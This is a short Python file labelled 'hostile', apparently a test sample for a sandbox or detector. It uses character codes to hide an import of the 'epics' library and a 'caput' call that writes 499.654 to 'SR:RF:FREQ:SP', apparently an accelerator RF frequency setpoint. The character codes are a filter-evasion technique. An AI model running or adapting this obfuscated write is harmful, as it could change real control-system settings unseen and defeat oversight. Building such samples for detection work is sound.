# source: PayloadsAllTheThings, Python sandbox bypass by character codes (github.com/swisskyrepo/PayloadsAllTheThings)
# kind: hostile
# writes: yes
# channels: SR:RF:FREQ:SP
# reads: no
codes = [101, 112, 105, 99, 115]
verb = [99, 97, 112, 117, 116]
target = bytes([83, 82, 58, 82, 70, 58, 70, 82, 69, 81, 58, 83, 80]).decode()

module = __import__("".join(map(chr, codes)))
result = module.__dict__["".join(chr(c) for c in verb)](target, 499.654)
print("done", result)
